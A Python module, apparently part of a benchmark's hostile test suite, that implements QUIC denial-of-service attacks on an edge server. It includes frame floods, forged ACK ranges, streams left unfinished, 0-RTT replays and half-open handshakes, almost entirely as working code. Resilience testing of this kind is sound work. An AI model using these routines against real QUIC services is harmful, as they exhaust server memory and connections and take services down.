"""Attacks with packets on an edge, beside those that the benchmark measures."""

from __future__ import annotations

import asyncio
import os
import random
from collections.abc import Iterable, Sequence
from pathlib import Path

from bench.hostile.quic_attacks import FrameFlood, deaf, ticket_of
from bench.hostile.quic_client import (
    BURST_DATAGRAMS,
    Address,
    QuicAttackResult,
    begin,
    chat_frame,
    connected,
    crypto_frame,
    linger,
    stop_frame,
    stream_frame,
    varint,
)


def new_connection_id_frame(number: int, retire_prior_to: int) -> bytes:
    """A NEW_CONNECTION_ID frame (section 19.15)."""
    return (
        b"\x18"
        + (varint(number) + varint(retire_prior_to))
        + (b"\x08" + os.urandom(8) + os.urandom(16))
    )


async def doubling_offsets(
    address: Address, certificate: Path | None, *, num_frames: int = 14, hold_s: float = 0.2
) -> QuicAttackResult:
    """One byte each at the highest offset that the edge allows, which a receiver that doubles its
    window and allocates every gap pays for with gigabytes."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        stream = client.quic._get_or_create_stream_for_send(0)
        for _ in range(num_frames):
            highest = min(stream.max_stream_data_remote, client.quic._remote_max_data)
            await client.send([stream_frame(0, highest - 1, b"x")])
            outcome.num_sent += 1
            await linger(client, hold_s / num_frames)
    return outcome


async def partial_frames(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 8,
    num_streams: int = 64,
    bytes_each: int = 200_000,
    hold_s: float = 1.0,
) -> QuicAttackResult:
    """Requests on many streams that begin, and never end."""
    outcome = QuicAttackResult()
    begun = b"\xff\xff\x3f" + bytes(bytes_each)  # a length of 1 MiB less one

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_streams):
                client.quic.send_stream_data(4 * number, begun)
                outcome.num_sent += 1
            client.transmit()
            await linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


def _endless_crypto(count: int) -> Iterable[bytes]:
    yield crypto_frame(0, b"\x04\xff\xff\xff")
    for at in range(count):
        yield crypto_frame(4 + at, b"x")


crypto_fragments = FrameFlood(
    "CRYPTO after the handshake: a TLS message of 16 MiB, byte by byte.",
    20_000,
    lambda _, count: _endless_crypto(count),
)


async def ping_flood(
    address: Address,
    certificate: Path | None,
    *,
    num_packets: int = 5000,
    num_skipped: int = 0,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """PINGs in packets of their own, and no acknowledgement of any answer. Before each packet so
    many numbers are left out, for as many ranges to acknowledge as packets."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        client.quic.acknowledges = False
        for number in range(num_packets):
            client.quic.skip_packet_numbers(num_skipped)
            await client.send([b"\x01\x00\x00\x00"])
            outcome.num_sent += 1
            if number % BURST_DATAGRAMS == 0:
                await asyncio.sleep(0.001)  # an answer to each burst
        await linger(client, hold_s)
    return outcome


path_challenges = FrameFlood(
    "PATH_CHALLENGEs, each of which asks for an answer.",
    20_000,
    lambda _, count: (b"\x1a" + os.urandom(8) for _ in range(count)),
)


connection_ids = FrameFlood(
    "NEW_CONNECTION_IDs, each of which retires the one before.",
    20_000,
    lambda _, count: (new_connection_id_frame(8 + at, 8 + at) for at in range(count)),
)


retired_connection_ids = FrameFlood(
    "RETIRE_CONNECTION_IDs, for each of which another one is due, whether it was given or not.",
    20_000,
    lambda _, count: (b"\x19" + varint(1 + at) for at in range(count)),
)


empty_stream_frames = FrameFlood(
    "STREAM frames without data, on every stream that may be opened.",
    20_000,
    lambda client, count: (
        stream_frame(4 * (at % client.quic._remote_max_streams_bidi), 0, b"") for at in range(count)
    ),
)


stopped_streams = FrameFlood(
    "STOP_SENDING, again and again, on the streams that may be opened.",
    20_000,
    lambda client, count: (
        stop_frame(4 * (at % client.quic._remote_max_streams_bidi)) for at in range(count)
    ),
)


async def malformed_frames(
    address: Address, certificate: Path | None, *, num_connections: int = 50, seed: int = 1
) -> QuicAttackResult:
    """Packets that decrypt, and hold random bytes."""
    outcome, rng = QuicAttackResult(), random.Random(seed)
    for _ in range(num_connections):
        async with connected(address, certificate, outcome) as client:
            await client.send([rng.randbytes(rng.randrange(4, 1000))])
            outcome.num_sent += 1
            await linger(client, 0.05)
    return outcome


async def replayed_early_data(
    address: Address,
    certificate: Path | None,
    *,
    text: str = "hello",
    num_copies: int = 100,
    hold_s: float = 0.5,
) -> QuicAttackResult:
    """A first flight with a chat in 0-RTT, recorded and sent again from other sockets."""
    outcome, ticket = QuicAttackResult(), await ticket_of(address, certificate)
    client = await begin(address, certificate, ticket=ticket, records=True)
    flight = [
        *client.sent,
        *client.quic.packets([stream_frame(0, 0, chat_frame(text))], early=True),
    ]
    client.vanish()
    loop = asyncio.get_running_loop()
    for _ in range(num_copies):
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=address
        )
        for datagram in flight:
            transport.sendto(datagram)
        outcome.num_sent += 1
        await asyncio.sleep(0)
        transport.close()
    await asyncio.sleep(hold_s)
    return outcome


def ack_frame(largest: int, num_ranges: int) -> bytes:
    """An ACK frame of ranges of one packet each (section 19.3)."""
    return (
        b"\x02" + varint(largest) + varint(0) + varint(num_ranges - 1) + bytes(2 * num_ranges - 1)
    )


def _byte_by_byte(count: int) -> Iterable[bytes]:
    head = b"\x80\x80\x20"  # a length of 512 KiB
    yield stream_frame(0, 0, head)
    for at in range(count):
        yield stream_frame(0, len(head) + at, b"x")


one_byte_frames = FrameFlood(
    "A frame of the largest size that comes byte by byte, in order, on one stream.",
    64_000,
    lambda _, count: _byte_by_byte(count),
)


async def half_open_handshakes(
    address: Address,
    certificate: Path | None,
    *,
    num_handshakes: int = 1000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.5,
) -> QuicAttackResult:
    """True first flights, each from a socket of its own, that never hear the answer."""
    outcome, clients = QuicAttackResult(), []
    for number in range(num_handshakes):
        source = sources[number % len(sources)]
        clients.append(await begin(address, certificate, source=source, tune=deaf))
        outcome.num_sent += 1
    await asyncio.sleep(hold_s)
    for client in clients:
        client.vanish()
    return outcome


acknowledgements = FrameFlood(
    "ACKs of five hundred ranges each, of packets that were never sent.",
    2000,
    lambda _, count: (ack_frame(2000, 500) for _ in range(count)),
)
